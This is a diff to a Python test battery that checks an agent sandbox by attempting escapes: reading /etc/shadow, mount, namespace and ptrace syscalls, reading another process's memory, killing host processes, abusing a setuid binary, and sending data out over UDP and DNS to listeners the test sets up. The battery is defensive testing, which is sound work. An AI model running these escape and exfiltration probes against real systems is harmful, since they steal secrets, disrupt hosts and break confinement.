@@ -5,6 +5,11 @@ Each attempt is a small shell program (python3 heredocs where the shell cannot s
 when it got through, plus host-side checks that do not trust the program's own word: a listener that counts
 connections, a file that must not appear, a process that must stay alive. ``{NAME}`` placeholders are filled
 from the battery's context before the program runs. A passed attempt is a blocked one.
+
+A test that cannot fail proves nothing, so each probe is written to get through on a host without the sandbox
+(checked by running the programs unconfined as an unprivileged uid): syscall probes count any answer but the
+filter's EPERM as getting through, and every python probe prints ``PROBED`` once it has run to its end, which
+the battery requires, so a probe that crashed or never started is not taken for a blocked one.
 """
 
 from __future__ import annotations
@@ -31,11 +36,20 @@ class Attempt:
     checks: list[Check] = field(default_factory=list)
     after: str | None = None
     """'stop-worker': stop the route's worker before the host checks (leftover processes)."""
+    ends_worker: bool = False
+    """The program may take its own worker down with it (a stopped worker is then an answer too)."""
+    expect: str | None = None
+    """Output that shows the probe ran as intended, for a probe that cannot print PROBED (it is killed)."""
 
 
-def py(code: str) -> str:
-    """A python3 program as a shell heredoc (the quoted delimiter keeps the shell's hands off it)."""
-    return f"python3 - <<'PYEOF'\n{code.strip()}\nPYEOF\n"
+PROBED = "PROBED"
+
+
+def py(code: str, *args: str, probed: bool = True) -> str:
+    """A python3 program as a shell heredoc (the quoted delimiter keeps the shell's hands off it); it prints
+    PROBED when it ran to its end."""
+    end = f"\nprint('{PROBED}')" if probed else ""
+    return f"python3 - {' '.join(args)} <<'PYEOF'\n{code.strip()}{end}\nPYEOF\n"
 
 
 SYSCALL = """
@@ -43,8 +57,12 @@ import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 libc.syscall.restype = ctypes.c_long
 def sc(nr, *args):
+    ctypes.set_errno(0)
     r = libc.syscall(nr, *args)
     return r, os.strerror(ctypes.get_errno()) if r < 0 else "ok"
+def reached(name, r, e):  # the filter answers EPERM; any other answer (even an error) reached the kernel
+    print(name, e)
+    if e != os.strerror(1): print('ESCAPED', name)
 """
 
 
@@ -97,6 +115,30 @@ def egress_refused(res: Any, ctx: Any) -> tuple[bool, str]:
     return grew, f"egress_denied_total now {now:g}"
 
 
+SETUID = """
+import os, subprocess, time
+r, w = os.pipe()
+os.set_blocking(w, False)
+try:
+    while True: os.write(w, b'x' * 4096)
+except BlockingIOError: pass
+os.set_blocking(w, True)
+# mount is setuid root; with its output pipe full it blocks in write(2), still holding what exec gave it
+p = subprocess.Popen(['/usr/bin/mount'], stdout=w, stderr=w)
+status = {}
+for _ in range(100):
+    with open(f'/proc/{p.pid}/status') as f:
+        status = dict(line.split(':', 1) for line in f.read().splitlines())
+    if status['Name'].strip() == 'mount' and status['State'].split()[0] == 'S':
+        break
+    time.sleep(0.05)
+else:
+    raise SystemExit('mount never started and blocked')
+print('mount running, Uid:', status['Uid'].split())
+if status['Uid'].split()[1] == '0': print('ESCAPED')
+os.close(r); p.wait()
+"""
+
 ATTEMPTS: list[Attempt] = [
     # --- secrets on the host -------------------------------------------------------------------------------
     Attempt("shadow", "read /etc/shadow", "cat /etc/shadow && echo ESCAPED"),
@@ -133,9 +175,12 @@ ATTEMPTS: list[Attempt] = [
     Attempt("shared-tmp", "read another agent's /tmp", "cat /tmp/shared-{RAND} && echo ESCAPED; ls /tmp",
             secret="SHARED_MARK"),
     # --- kernel interfaces ---------------------------------------------------------------------------------
-    Attempt("bind-mount", "bind-mount / into the workspace", "mkdir -p m; mount --bind / m && echo ESCAPED; rmdir m"),
-    Attempt("mount-fs", "mount a tmpfs and a procfs",
-            "mkdir -p m; mount -t tmpfs none m && echo ESCAPED; mount -t proc proc m && echo ESCAPED; rmdir m"),
+    Attempt("bind-mount", "bind-mount / into the workspace", "mkdir -p m; " + py(
+        SYSCALL + "r, e = sc(165, b'/', b'm', None, 0x1000, None)\nprint('mount MS_BIND', e)\n"
+        "if r == 0: print('ESCAPED')") + "rmdir m"),
+    Attempt("mount-fs", "mount a tmpfs and a procfs", "mkdir -p m; " + py(
+        SYSCALL + "for fs in (b'tmpfs', b'proc'):\n    r, e = sc(165, b'none', b'm', fs, 0, None)\n"
+        "    print('mount', fs, e)\n    if r == 0: print('ESCAPED')") + "rmdir m"),
     Attempt("unshare-user", "new user namespace (be root in it)", "unshare -Ur id && echo ESCAPED"),
     Attempt("unshare-ns", "new mount/net/pid namespaces",
             "unshare -m true && echo ESCAPED; unshare -n true && echo ESCAPED; unshare -fp true && echo ESCAPED"),
@@ -145,24 +190,24 @@ ATTEMPTS: list[Attempt] = [
     Attempt("chroot", "chroot", py("import os\ntry:\n    os.chroot('/tmp'); print('ESCAPED')\n"
                                    "except OSError as e:\n    print('chroot', e)")),
     Attempt("ptrace", "ptrace a sibling process", "sleep 30 >/dev/null 2>&1 & p=$!; " + py(
-        SYSCALL + "import subprocess\npid = int(subprocess.check_output(['sh', '-c', 'pgrep -n sleep || true']) or 0)\n"
-        "r, e = sc(101, 16, pid, 0, 0)\nprint('ptrace', pid, e)\nif r == 0: print('ESCAPED')")
-        + "strace -p $p -e none -o /dev/null >/dev/null 2>&1 & s=$!; sleep 1; kill $s 2>/dev/null && echo strace-was-running; kill $p"),
-    Attempt("process-vm", "read a sibling's memory (process_vm_readv, /proc/PID/mem)", "sleep 30 >/dev/null 2>&1 & p=$!; " + py(
-        SYSCALL + "import subprocess\npid = int(subprocess.check_output(['sh', '-c', 'pgrep -n sleep || true']) or 0)\n"
-        "buf = ctypes.create_string_buffer(16)\n"
+        SYSCALL + "import sys\npid = int(sys.argv[1])\nos.kill(pid, 0)  # the target is there\n"
+        "r, e = sc(101, 16, pid, 0, 0)\nprint('ptrace', pid, e)\nif r == 0: print('ESCAPED')", "$p") + "kill $p"),
+    Attempt("process-vm", "read a sibling's memory (process_vm_readv)", py(
+        SYSCALL + "secret = ctypes.create_string_buffer(b'sibling-memory', 16)\npid = os.fork()\n"
+        "if pid == 0:\n    import time; time.sleep(30); os._exit(0)\n"
+        "out = ctypes.create_string_buffer(16)\n"
         "class iov(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
-        "l = iov(ctypes.cast(buf, ctypes.c_void_p), 16); rm = iov(0x400000, 16)\n"
-        "r, e = sc(310, pid, ctypes.byref(l), 1, ctypes.byref(rm), 1, 0)\nprint('process_vm_readv', e)\n"
-        "if r > 0: print('ESCAPED')") + "kill $p"),
-    Attempt("kill-host", "kill a host process by pid", "kill -9 {VICTIM} && echo ESCAPED", checks=[victim_alive]),
+        "loc, rem = iov(ctypes.addressof(out), 16), iov(ctypes.addressof(secret), 16)  # same address in the child\n"
+        "one, zero = ctypes.c_ulong(1), ctypes.c_ulong(0)  # full registers: the kernel reads all 64 bits\n"
+        "r, e = sc(310, pid, ctypes.byref(loc), one, ctypes.byref(rem), one, zero)\nos.kill(pid, 9)\n"
+        "reached('process_vm_readv', r, e)\nprint('read', out.value)")),
+    Attempt("kill-host", "kill a host process of the agent's own uid by pid", "kill -9 {VICTIM} && echo ESCAPED",
+            checks=[victim_alive]),
     Attempt("kill-all", "kill -9 -1 (every process the worker may signal)", "kill -9 -1; echo still-here",
-            checks=[victim_alive, gateway_alive]),
+            checks=[victim_alive, gateway_alive], ends_worker=True),
     Attempt("signal-gateway", "signal the gateway", "kill -TERM {GW_PID} && echo ESCAPED; kill -STOP {GW_PID}",
             checks=[gateway_alive]),
-    Attempt("setuid", "gain root through a setuid binary",
-            "out=$(su -c 'id -u' root </dev/null 2>&1); echo \"$out\"; [ \"$out\" = 0 ] && echo ESCAPED; "
-            "mount 2>&1 | head -1; umount / 2>&1 && echo ESCAPED"),
+    Attempt("setuid", "gain root through a setuid binary (its effective uid, seen while it runs)", py(SETUID)),
     Attempt("privileges", "no_new_privs set, no capabilities",
             "grep -E 'NoNewPrivs|CapEff|CapPrm|Seccomp:' /proc/self/status; "
             "grep -q 'NoNewPrivs:[[:space:]]*1' /proc/self/status || echo ESCAPED; "
@@ -173,23 +218,24 @@ ATTEMPTS: list[Attempt] = [
             "ls /sys/fs/cgroup && echo ESCAPED; cat /proc/self/cgroup"),
     Attempt("devices", "raw devices", "ls /dev; head -c1 /dev/mem && echo ESCAPED; head -c1 /dev/kmsg && echo ESCAPED; "
             "ls /dev/sd* /dev/vd* /dev/nvme* 2>/dev/null && echo ESCAPED"),
-    Attempt("io-uring", "io_uring", py(SYSCALL + "import ctypes\np = ctypes.create_string_buffer(120)\n"
-                                       "r, e = sc(425, 8, p)\nprint('io_uring_setup', e)\nif r >= 0: print('ESCAPED')")),
+    Attempt("io-uring", "io_uring", py(SYSCALL + "p = ctypes.create_string_buffer(120)\nr, e = sc(425, 8, p)\n"
+                                       "reached('io_uring_setup', r, e)")),
     Attempt("bpf", "bpf()", py(SYSCALL + "a = ctypes.create_string_buffer(128)\nr, e = sc(321, 0, a, 128)\n"
-                               "print('bpf', e)\nif r >= 0: print('ESCAPED')")),
-    Attempt("keyring", "kernel keyring", py(SYSCALL + "r, e = sc(248, b'user', b'k', b'v', 1, -2)\nprint('add_key', e)\n"
-                                            "if r >= 0: print('ESCAPED')\nr, e = sc(250, 0, -2, 0, 0, 0)\n"
-                                            "print('keyctl', e)\nif r >= 0: print('ESCAPED')")),
+                               "reached('bpf', r, e)")),
+    Attempt("keyring", "kernel keyring", py(SYSCALL + "r, e = sc(248, b'user', b'k', b'v', 1, -2)\n"
+                                            "reached('add_key', r, e)\nr, e = sc(250, 0, -2, 0, 0, 0)\n"
+                                            "reached('keyctl', r, e)")),
     Attempt("open-by-handle", "open_by_handle_at (container escape of old)", py(
-        SYSCALL + "h = ctypes.create_string_buffer(136)\nm = ctypes.c_int()\n"
-        "r, e = sc(303, -100, b'/usr', h, ctypes.byref(m), 0)\nprint('name_to_handle_at', e)\n"
-        "r, e = sc(304, -100, h, 0)\nprint('open_by_handle_at', e)\nif r >= 0: print('ESCAPED')")),
+        SYSCALL + "h = ctypes.create_string_buffer(136)\nctypes.memmove(h, (128).to_bytes(4, 'little'), 4)\n"
+        "m = ctypes.c_int()\nr, e = sc(303, -100, b'/usr', h, ctypes.byref(m), 0)\n"
+        "reached('name_to_handle_at', r, e)\nr, e = sc(304, -100, h, 0)\nreached('open_by_handle_at', r, e)")),
     Attempt("x32-abi", "syscalls through the 32-bit ABI (int 0x80)", py(
         "import ctypes, mmap\n"
         "code = bytes([0xb8, 0x18, 0, 0, 0, 0xcd, 0x80, 0xc3])  # mov eax, 24 (getuid); int 0x80; ret\n"
         "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(code)\n"
         "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
-        "print('int80 returned', f())\nprint('ESCAPED')") + "echo exit=$?"),
+        "print('int80 returned', f())\nprint('ESCAPED')", probed=False) + "echo exit=$?",
+            expect="exit=159"),  # 128 + SIGSYS: killed by the filter's architecture check
     # --- network -------------------------------------------------------------------------------------------
     Attempt("tcp-loopback", "connect to a host listener on 127.0.0.1", py(
         "import socket\nfor h in ('127.0.0.1', 'localhost'):\n    try:\n"
@@ -202,9 +248,15 @@ ATTEMPTS: list[Attempt] = [
         "import socket\nfor h in ('127.0.0.1', '{HOST_IP}'):\n    try:\n"
         "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', (h, {UDP})); print('sent', h)\n"
         "    except OSError as e: print(h, e)"), checks=[listener_untouched("udp")]),
-    Attempt("dns-exfil", "DNS lookups to carry data out", "getent hosts exfil-{RAND}.example.com && echo ESCAPED; " + py(
-        "import socket\ntry:\n    print(socket.getaddrinfo('exfil-{RAND}.example.org', 53)); print('ESCAPED')\n"
-        "except OSError as e: print(e)")),
+    Attempt("dns-exfil", "DNS queries to carry data out (the resolver, and a DNS server on the host)",
+            "getent hosts exfil-{RAND}.example.com && echo ESCAPED; " + py(
+                "import socket, struct\ntry:\n    print(socket.getaddrinfo('exfil-{RAND}.example.org', 53)); print('ESCAPED')\n"
+                "except OSError as e: print(e)\n"
+                "q = struct.pack('>6H', 0x4d43, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() "
+                "for p in 'exfil-{RAND}.example.com'.split('.')) + b'\\0' + struct.pack('>2H', 16, 1)\n"
+                "for h in ('127.0.0.1', '{HOST_IP}'):\n    try:\n"
+                "        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, (h, {DNS})); print('query sent', h)\n"
+                "    except OSError as e: print(h, e)"), checks=[listener_untouched("dns")]),
     Attempt("raw-socket", "raw and packet sockets", py(
         "import socket\nfor args in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):\n"
         "    try:\n        socket.socket(*args); print('ESCAPED', args)\n    except OSError as e: print(args, e)")),
